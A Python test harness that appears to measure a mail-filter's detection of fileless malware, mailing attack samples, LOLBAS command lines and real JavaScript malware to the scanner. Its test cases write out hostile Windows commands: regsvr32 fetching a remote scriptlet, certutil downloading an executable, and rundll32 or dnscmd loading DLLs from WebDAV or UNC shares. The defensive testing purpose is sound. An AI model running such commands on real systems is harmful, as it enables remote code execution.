#!/usr/bin/env python3
"""behaviour/run.py - the behaviour corpus: recall by content alone and false positives per class.

Each sample is mailed (attached as itself, or zipped, or the mail as written) and scanned
with `fileless-milter -t --json` twice: with the shipped rules, and with the name and type
symbols (`^name` in rules/scoring.conf) weighing 0 ("content alone"). Malicious classes count
how many samples reach quarantine or reject by content alone; clean classes count how many
reach tag and quarantine with the shipped rules, and names alone must never pass tag.
Single-capability classes (kind "single") count how many reach tag and how many quarantine
by content alone: tag is what the chain model expects of them, both figures must not drop.

LOLBAS command lines are split by a criterion fixed before any verdict was looked at, from
the yml and the command's own text only (lolbas_split): `lolbas-remote-exec` holds the
commands whose Category is Execute or AWL Bypass and that name remote content (a URL or UNC
placeholder, an http(s)/ftp URL, a \\\\host\\share path, a WebDAV path): one command that runs
remote code, a chain, expected at quarantine by content alone. `lolbas-single` holds the rest
(Category Download, or a local-file execution, or a command run on another host): one
capability, expected at tag.

Samples (provenance in tests/corpus/behaviour/MANIFEST.md):
  tests/corpus/behaviour/mal/<class>/*    public attack-simulation samples (inert), lures
  tests/corpus/behaviour/clean/<class>/*  real admin/build scripts, mails we wrote
  LOLBAS command lines                    read from a LOLBAS checkout when FM_LOLBAS points at
                                          one (or /work/.mirror has it); else skipped
  npm packages                            `npm pack` into tests/out (test-only; skipped offline)
  JS malware collection                   60 files read from a checkout named by FM_JSMAL
                                          (or /work/.mirror has it); else skipped
  ../shared/corpus/mime-*                 ham; skipped when absent
The table goes to tests/out/behaviour.md; tests/behaviour/expect.tsv holds the committed
figures: fewer detections of a malicious class or more false positives of a clean one fail.
UPDATE=1 rewrites expect.tsv; FM_BEHAVIOUR_CLASSES="a b" runs only those classes. Prints "@@ behaviour passed=N failed=M skipped=K".
"""
import glob, io, json, os, re, shutil, subprocess, sys, tarfile, tempfile, zipfile
from email.message import EmailMessage

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
os.chdir(ROOT)
BIN = os.environ.get("FM_BIN", "milter/fileless-milter")
CORPUS = os.environ.get("FM_CORPUS", "../shared/corpus")
SAMPLES = "tests/corpus/behaviour"
OUT = "tests/out/behaviour"
EXPECT = "tests/behaviour/expect.tsv"
R = {"passed": 0, "failed": 0, "skipped": 0}
ORDER = {"clean": 0, "tag": 1, "quarantine": 2, "reject": 3}
LOLBAS_BINS = ["Mshta", "Rundll32", "Regsvr32", "Certutil", "Bitsadmin", "Msiexec", "Cmstp",
               "Wmic", "Msbuild", "Installutil", "Forfiles", "Hh", "Pcalua", "Cscript", "Wscript"]


def check(name, cond, why=""):
    R["passed" if cond else "failed"] += 1
    print(("ok   %s" if cond else "FAIL %s: " + str(why)) % name)


def skip(name, why):
    R["skipped"] += 1
    print("skip %s: %s" % (name, why))


CTYPES = {".vbs": "text/vbscript", ".js": "application/javascript", ".ps1": "text/plain",
          ".bat": "application/x-msdos-program", ".cmd": "application/x-msdos-program",
          ".hta": "application/hta", ".sct": "text/plain", ".xsl": "text/xml",
          ".txt": "text/plain", ".html": "text/html", ".zip": "application/zip"}


def mail(subject, body, attachments):
    """an .eml with a text body and (name, bytes) attachments"""
    m = EmailMessage()
    m["From"] = "sender@example.org"
    m["To"] = "rcpt@example.net"
    m["Subject"] = subject
    m.set_content(body)
    for name, data in attachments:
        ct = CTYPES.get(os.path.splitext(name)[1].lower(), "application/octet-stream")
        maintype, subtype = ct.split("/")
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return m.as_bytes()


def zipped(members):
    """a zip of (name, bytes)"""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()


def files_of(cls):
    return sorted(f for f in glob.glob(os.path.join(SAMPLES, cls, "*")) if os.path.isfile(f))


def attach_each(cls, wrap):
    """one mail per sample file, attached as itself or inside a zip"""
    out = []
    for f in files_of(cls):
        data = open(f, "rb").read()
        name = os.path.basename(f)
        if f.endswith(".eml"):
            out.append((name, data))
        elif wrap == "zip":
            out.append((name, mail("files", "See the attached archive.",
                                   [(name + ".zip", zipped([(name, data)]))])))
        else:
            out.append((name, mail("file", "See the attachment.", [(name, data)])))
    return out


def lolbas_dir():
    for d in [os.environ.get("FM_LOLBAS", ""), "/work/.mirror/LOLBAS-Project+LOLBAS/repo"]:
        if d and os.path.isdir(d):
            return d
    return None


def fill(cmd):
    """LOLBAS placeholders ({REMOTEURL:.sct}, {PATH:.dll}, {CMD} ...) as inert concrete values"""
    def one(m):
        kind, ext = m.group(1), m.group(2) or ""
        if kind.startswith("REMOTEURL"):
            return "https://example.invalid/payload" + ext
        if kind.startswith("PATH_SMB"):
            return "\\\\example.invalid\\share\\payload" + ext
        if kind.startswith("PATH"):
            return "C:\\Users\\Public\\payload" + ext
        if kind.startswith("CMD"):
            return "calc.exe"
        return "payload" + ext
    return re.sub(r"\{([A-Z_]+)(?::([^}]*))?\}", one, cmd)


def lolbas_commands():
    """one .cmd per LOLBAS binary holding its documented command lines"""
    d = lolbas_dir()
    if d is None:
        return None
    out = []
    for b in LOLBAS_BINS:
        p = subprocess.run(["git", "--git-dir", d, "show", "HEAD:yml/OSBinaries/%s.yml" % b],
                           capture_output=True, text=True)
        if p.returncode != 0:
            continue
        cmds = re.findall(r"^\s*-?\s*Command:\s*(.+)$", p.stdout, re.M)
        cmds = [c.strip().strip("'\"") for c in cmds if c.strip() not in ("|", ">")]
        cmds = [fill(c) for c in cmds]
        if cmds:
            text = "@echo off\r\n" + "\r\n".join(cmds) + "\r\n"
            out.append((b + ".cmd", mail("run this", "See the attachment.",
                                         [(b.lower() + ".cmd", text.encode())])))
    return out


JSMAL_SAMPLES = 60  # files of the JS malware collection, spread evenly over its sorted list
JSMAL_MAX = 200000   # bytes; larger files are skipped


def jsmal_dir():
    for d in [os.environ.get("FM_JSMAL", ""),
              "/work/.mirror/HynekPetrak+javascript-malware-collection/repo"]:
        if d and os.path.isdir(d):
            return d
    return None


def js_malware():
    """real JavaScript malware (HynekPetrak/javascript-malware-collection, CC0), read from a
    git checkout at test time (never stored, never run), zipped as campaigns send them"""
    d = jsmal_dir()
    if d is None:
        return None
    p = subprocess.run(["git", "--git-dir", d, "ls-tree", "-r", "--long", "HEAD"],
                       capture_output=True, text=True)
    files = []
    for line in p.stdout.splitlines():
        meta, path = line.split("\t", 1)
        size = meta.split()[3]
        if path.endswith(".js") and path[:4].isdigit() and size.isdigit() and int(size) <= JSMAL_MAX:
            files.append(path)
    files.sort()
    if not files:
        return None
    step = max(1, len(files) // JSMAL_SAMPLES)
    out = []
    for path in files[::step][:JSMAL_SAMPLES]:
        data = subprocess.run(["git", "--git-dir", d, "show", "HEAD:" + path],
                              capture_output=True).stdout
        name = os.path.basename(path)
        out.append((path, mail("invoice", "Please see the attached invoice.",
                               [(name + ".zip", zipped([(name, data)]))])))
    return out


LOLBAS_CATEGORIES = ("Download", "Execute", "AWL Bypass")
LOLBAS_RUN_CATEGORIES = ("Execute", "AWL Bypass")
# remote content named by a command (its yml scalar decoded, placeholders not yet filled): a
# URL or UNC placeholder, an http(s)/ftp URL, a UNC path \\host\share (any run of two or more
# backslashes; a WMI namespace \\root\... is not one), a WebDAV path (@SSL, DavWWWRoot)
LOLBAS_REMOTE_RE = re.compile(r"\{REMOTEURL|\{PATH_SMB|\b(?:https?|ftp)://|@SSL\\|DavWWWRoot"
                              r"|(?<![\\\w])\\{2,}(?!root\\)[\w{][\w.{}:-]*\\+\w", re.I)


def lolbas_split(raw, cat):
    """the class of one LOLBAS command line, decided from its yml category and its own text
    (never from a verdict): 'remote-exec' when the category runs code (Execute, AWL Bypass)
    and the command names remote content (LOLBAS_REMOTE_RE): remote content run by one
    command, a chain that content alone must quarantine; else 'single' (a download alone, a
    local proxy execution, a command on another host): one capability, tag expected"""
    try:
        cmd = str(yaml_scalar(raw))
    except ValueError:
        cmd = raw
    if cat in LOLBAS_RUN_CATEGORIES and LOLBAS_REMOTE_RE.search(cmd):
        return "remote-exec"
    return "single"


def yaml_scalar(raw):
    """a yml scalar as YAML reads it (a double-quoted one unescaped); plain scalars as is"""
    if not raw.startswith('"'):
        return raw
    try:
        return json.loads(raw)
    except json.JSONDecodeError as e:
        raise ValueError(e)


def lolbas_lines(which):
    """one .cmd per documented command line of every LOLBAS OS binary whose category is a
    download or an execution (Download, Execute, AWL Bypass), split by lolbas_split"""
    d = lolbas_dir()
    if d is None:
        return None
    p = subprocess.run(["git", "--git-dir", d, "ls-tree", "--name-only", "HEAD:yml/OSBinaries/"],
                       capture_output=True, text=True)
    out = []
    for yml in sorted(p.stdout.split()):
        q = subprocess.run(["git", "--git-dir", d, "show", "HEAD:yml/OSBinaries/" + yml],
                           capture_output=True, text=True)
        # a command and the category that follows it in the same list item
        items = re.findall(r"^\s*-\s*Command:\s*(.+?)\n(?:.*\n)*?\s*Category:\s*(.+)$",
                           q.stdout, re.M)
        for i, (raw, cat) in enumerate(items):
            cmd, cat = raw.strip().strip("'\""), cat.strip()
            if cat not in LOLBAS_CATEGORIES or cmd in ("|", ">", ""):
                continue
            if lolbas_split(raw.strip(), cat) != which:
                continue
            text = "@echo off\r\n" + fill(cmd) + "\r\n"
            name = "%s-%d.cmd" % (yml[:-4].lower(), i)
            out.append((name + " " + cmd[:40], mail("run this", "See the attachment.",
                                                    [(name, text.encode())])))
    return out


NPM_LIBS = {"jquery": ["package/dist/jquery.js", "package/dist/jquery.min.js"],
            "lodash": ["package/lodash.js"],
            "bootstrap": ["package/dist/js/bootstrap.bundle.js"],
            "d3": ["package/dist/d3.js"],
            "moment": ["package/moment.js"]}
NPM_SCRIPTS = {"npm": ["package/bin/npm.cmd", "package/bin/npx.cmd", "package/bin/npm.ps1",
                       "package/bin/npx.ps1"]}


# the versions the expectations were measured on (a new release may carry other URLs/code)
NPM_PINS = {"jquery": "4.1.0", "lodash": "4.18.1", "bootstrap": "5.3.9", "d3": "7.9.2",
            "moment": "2.31.0", "npm": "11.21.3"}


def npm_members(pkgs):
    """members of npm packages at NPM_PINS (npm pack into tests/out; None when npm is
    unreachable)"""
    d = os.path.join(OUT, "npm")
    os.makedirs(d, exist_ok=True)
    out = []
    for pkg, members in pkgs.items():
        name = "%s-%s.tgz" % (pkg, NPM_PINS[pkg])
        tgz = glob.glob(os.path.join(d, name))
        if not tgz:
            p = subprocess.run(["npm", "pack", "--silent", "%s@%s" % (pkg, NPM_PINS[pkg])],
                               cwd=d, capture_output=True, text=True, timeout=300)
            tgz = glob.glob(os.path.join(d, name))
            if p.returncode != 0 or not tgz:
                return None
        with tarfile.open(tgz[0]) as t:
            for m in members:
                try:
                    out.append((pkg, os.path.basename(m), t.extractfile(m).read()))
                except (KeyError, AttributeError):
                    pass
    return out


def js_libraries():
    got = npm_members(NPM_LIBS)
    if got is None:
        return None
    return [(pkg + "/" + n, mail("vendor drop", "The vendored libraries, as agreed.",
                                 [("vendor-%s.zip" % pkg, zipped([("js/" + n, data)]))]))
            for pkg, n, data in got]


def known_libraries():
    """the exact library files of known_libs.py's PACKAGES (rules/lists/known-libraries.txt),
    zipped as vendored drops: JS_KNOWN_LIBRARY must clear them whole"""
    import importlib.util
    spec = importlib.util.spec_from_file_location("known_libs", "tests/behaviour/known_libs.py")
    kl = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(kl)
    out = []
    for name, version, _, files in kl.PACKAGES:
        tgz = kl.pack(name, version)
        if tgz is None:
            return None
        with tarfile.open(tgz) as t:
            members = [("js/" + os.path.basename(f), t.extractfile("package/" + f).read())
                       for f in files]
        out.append(("%s@%s" % (name, version),
                    mail("vendor drop", "The vendored libraries, as agreed.",
                         [("vendor-%s.zip" % name.replace("/", "-"), zipped(members))])))
    return out


OBFUSCATOR = "javascript-obfuscator@4.2.2"


def js_obfuscated():
    """the JavaScript samples (mal/js-source, mal/wsh-dropper/*.js) through
    javascript-obfuscator with five presets (tests/behaviour/obfuscate.js); test-only npm"""
    d = os.path.join(OUT, "npm-obf")
    mod = os.path.join(d, "node_modules", "javascript-obfuscator")
    if not os.path.isdir(mod):
        os.makedirs(d, exist_ok=True)
        p = subprocess.run(["npm", "install", "--silent", "--no-audit", "--no-fund", OBFUSCATOR],
                           cwd=d, capture_output=True, text=True, timeout=600)
        if p.returncode != 0 or not os.path.isdir(mod):
            return None
    srcs = files_of("mal/js-source") + [f for f in files_of("mal/wsh-dropper") if f.endswith(".js")]
    obf = os.path.join(OUT, "obf")
    shutil.rmtree(obf, ignore_errors=True)
    p = subprocess.run(["node", "tests/behaviour/obfuscate.js", d, obf] + srcs,
                       capture_output=True, text=True, timeout=600)
    if p.returncode != 0:
        print("   obfuscate.js: " + p.stderr[-300:])
        return None
    return [(os.path.basename(f), mail("file", "See the attachment.",
                                       [(os.path.basename(f), open(f, "rb").read())]))
            for f in sorted(glob.glob(os.path.join(obf, "*.js")))]


def package_scripts():
    got = npm_members(NPM_SCRIPTS)
    if got is None:
        return None
    return [(pkg + "/" + n, mail("wrapper", "The wrapper scripts from the package.",
                                 [("%s-bin.zip" % pkg, zipped([("bin/" + n, data)]))]))
            for pkg, n, data in got]


HEADER_RE = re.compile(rb"^(From [^\n]*\n)?[A-Za-z][A-Za-z0-9-]*:[ \t]")


def is_message(path):
    """a file that starts like an RFC 822 message (as tests/analysers/run.py selects ham)"""
    with open(path, "rb") as f:
        return HEADER_RE.match(f.read(512)) is not None


def ham():
    files = sorted(f for f in glob.glob(os.path.join(CORPUS, "mime-*", "**", "*"), recursive=True)
                   if os.path.isfile(f) and not f.endswith((".tsv", ".md", ".xml", ".out", ".json"))
                   and "_decoded" not in f and "LICENSE" not in f and "NOTICE" not in f
                   and "README" not in f and is_message(f))
    if not files:
        return None
    return [(os.path.relpath(f, CORPUS), open(f, "rb").read()) for f in files]


# class, kind, builder
CLASSES = [
    ("wsh-dropper", "mal", lambda: attach_each("mal/wsh-dropper", "zip")),
    ("persistence", "mal", lambda: attach_each("mal/persistence", None)),
    ("scriptlet", "mal", lambda: attach_each("mal/scriptlet", None)),
    ("ps-evasion", "mal", lambda: attach_each("mal/ps-evasion", None)),
    ("lure", "mal", lambda: attach_each("mal/lure", None)),
    ("js-source", "mal", lambda: attach_each("mal/js-source", None)),
    ("html-script", "mal", lambda: attach_each("mal/html-script", None)),
    ("js-obfuscated", "mal", js_obfuscated),
    ("lolbin-commands", "mal", lolbas_commands),
    ("lolbas-remote-exec", "mal", lambda: lolbas_lines("remote-exec")),
    ("lolbas-single", "single", lambda: lolbas_lines("single")),
    ("js-malware", "mal", js_malware),
    ("js-libraries", "clean", js_libraries),
    ("js-libraries-known", "clean", known_libraries),
    ("package-scripts", "clean", package_scripts),
    ("admin-scripts", "clean", lambda: attach_each("clean/admin-scripts", None)),
    ("admin-scripts-zipped", "clean", lambda: attach_each("clean/admin-scripts", "zip")),
    ("mentions", "clean", lambda: attach_each("clean/mentions", None)),
    ("html-pages", "clean", lambda: attach_each("clean/html-pages", None)),
    ("ham", "clean", ham),
]


def content_only_conf(tmp):
    """milter.conf + rules whose ^name symbols weigh 0"""
    rules = os.path.join(tmp, "rules")
    shutil.copytree("rules", rules)
    conf = os.path.join(rules, "scoring.conf")
    lines = []
    for line in open(conf):
        f = line.split()
        if len(f) > 3 and not line.startswith("#") and "^name" in f[3:6]:
            line = re.sub(r"^(\S+\s+)\S+", lambda m: m.group(1) + "0", line, count=1)
        lines.append(line)
    open(conf, "w").write("".join(lines))
    text = re.sub(r"^rules_dir\s*=.*$", "rules_dir = " + rules, open("milter.conf").read(),
                  flags=re.M)
    path = os.path.join(tmp, "milter.conf")
    open(path, "w").write(text)
    return path


def scan(conf, paths):
    out = []
    for i in range(0, len(paths), 50):
        p = subprocess.run([BIN, "-c", conf, "-t", "--json"] + paths[i:i + 50],
                           capture_output=True, text=True)
        out += [json.loads(l) for l in p.stdout.splitlines() if l.startswith("{")]
    return out


def names_weight(rep, scores):
    return sum(h["weight"] for h in rep["hits"] if h["symbol"] in scores)


SPLIT_CASES = [  # (yml scalar as written, category, class): the criterion itself
    ("regsvr32 /s /n /u /i:{REMOTEURL:.sct} scrobj.dll", "AWL Bypass", "remote-exec"),
    ("dnscmd.exe dc1 /config /serverlevelplugindll \\\\10.0.0.1\\dll\\x.dll", "Execute",
     "remote-exec"),
    ("rundll32 \\\\webdav@SSL\\DavWWWRoot\\x.dll,Entry", "Execute", "remote-exec"),
    ("certutil.exe -urlcache -f {REMOTEURL:.exe} x.exe", "Download", "single"),
    ("regsvr32 /s {PATH_ABSOLUTE:.dll}", "Execute", "single"),
    ("WMIC.exe /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get x", "Execute",
     "single"),
    ('"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\x.exe --gpu-launcher={CMD}"', "Execute",
     "single"),
]


def main():
    for raw, cat, want in SPLIT_CASES:
        got = lolbas_split(raw, cat)
        check("lolbas_split %s: %s" % (raw[:40], want), got == want, got)
    if not os.access(BIN, os.X_OK):
        skip("behaviour", BIN + " not built")
        return
    name_syms = {l.split()[0] for l in open("rules/scoring.conf")
                 if not l.startswith("#") and len(l.split()) > 3 and "^name" in l.split()[3:6]}
    expect = {}
    if os.path.exists(EXPECT):
        for l in open(EXPECT):
            if l.strip() and not l.startswith("#"):
                f = l.split("\t")
                expect[f[0]] = [int(x) for x in f[1:4]]
    shutil.rmtree(os.path.join(OUT, "eml"), ignore_errors=True)
    os.makedirs(os.path.join(OUT, "eml"), exist_ok=True)
    tmp = tempfile.mkdtemp(prefix="fm-behaviour-")
    conf0 = content_only_conf(tmp)
    rows, new_expect, details = [], [], []
    only = os.environ.get("FM_BEHAVIOUR_CLASSES", "").split()
    for cls, kind, build in CLASSES:
        if only and cls not in only:
            continue
        try:
            mails = build()
        except (OSError, subprocess.SubprocessError) as e:
            mails = None
            print("   %s: %s" % (cls, e))
        if not mails:
            skip(cls, "samples not available")
            continue
        paths = []
        for i, (name, data) in enumerate(mails):
            p = os.path.join(OUT, "eml", "%s-%03d.eml" % (cls, i))
            open(p, "wb").write(data)
            paths.append(p)
        full, alone = scan("milter.conf", paths), scan(conf0, paths)
        if len(full) != len(paths) or len(alone) != len(paths):
            check(cls + " scanned", False, "%d/%d reports" % (min(len(full), len(alone)), len(paths)))
            continue
        n = len(paths)
        q_alone = sum(ORDER[r["verdict"]] >= 2 for r in alone)
        q_full = sum(ORDER[r["verdict"]] >= 2 for r in full)
        t_full = sum(ORDER[r["verdict"]] >= 1 for r in full)
        t_alone = sum(ORDER[r["verdict"]] >= 1 for r in alone)
        names_over = [mails[i][0] for i, r in enumerate(full)
                      if names_weight(r, name_syms) >= 10]
        check(cls + ": names alone never above tag", not names_over, names_over)
        rows.append((cls, kind, n, q_alone, t_alone, q_full, t_full))
        new_expect.append((cls, n, q_full if kind == "clean" else q_alone,
                           {"clean": t_full, "single": t_alone}.get(kind, 0)))
        for i, (name, _) in enumerate(mails):
            hot = [h["symbol"] for h in full[i]["hits"] if h["weight"] > 0]
            details.append("| %s | %s | %s | %s %.1f | %s %.1f | %s |" % (
                cls, kind, name.replace("|", "/")[:60], alone[i]["verdict"], alone[i]["score"],
                full[i]["verdict"], full[i]["score"], " ".join(sorted(set(hot)))[:160]))
        if cls in expect:
            en, eq, et = expect[cls]
            if kind == "mal":
                check("%s: %d/%d reach quarantine by content alone (expected >= %d)" %
                      (cls, q_alone, n, eq), q_alone >= eq, "regression")
            elif kind == "single":
                check("%s: %d/%d tagged, %d quarantined by content alone (expected >= %d, >= %d)"
                      % (cls, t_alone, n, q_alone, et, eq), t_alone >= et and q_alone >= eq,
                      "regression")
            else:
                check("%s: %d/%d quarantined, %d tagged (expected <= %d, <= %d)" %
                      (cls, q_full, n, t_full, eq, et), q_full <= eq and t_full <= et, "regression")
        else:
            skip(cls + " expectation", "no row in " + EXPECT)
    shutil.rmtree(tmp, ignore_errors=True)
    md = ["# Behaviour corpus (tests/behaviour/run.py)", "",
          "Content alone: the score without name and type symbols (`^name` weighing 0).", "",
          "| class | kind | samples | content alone >= quarantine | content alone >= tag "
          "| shipped rules >= quarantine | >= tag |",
          "|---|---|---|---|---|---|---|"]
    for cls, kind, n, qa, ta, qf, tf in rows:
        md.append("| %s | %s | %d | %d (%d%%) | %d | %d | %d |" % (cls, kind, n, qa, 100 * qa // n,
                                                                  ta, qf, tf))
    md += ["", "## Samples", "", "| class | kind | sample | content alone | shipped | symbols |",
           "|---|---|---|---|---|---|"] + details
    open("tests/out/behaviour.md", "w").write("\n".join(md) + "\n")
    print("\n".join(md[:6 + len(rows)]))
    if os.environ.get("UPDATE") == "1" and not only:
        with open(EXPECT, "w") as f:
            f.write("# class\tsamples\tmal, single: min at quarantine by content alone; clean: "
                    "max quarantined\tclean: max tagged; single: min tagged by content alone\n")
            for row in new_expect:
                f.write("\t".join(str(x) for x in row) + "\n")
        print("   wrote " + EXPECT)


main()
print("@@ behaviour passed=%d failed=%d skipped=%d" % (R["passed"], R["failed"], R["skipped"]))
sys.exit(1 if R["failed"] else 0)
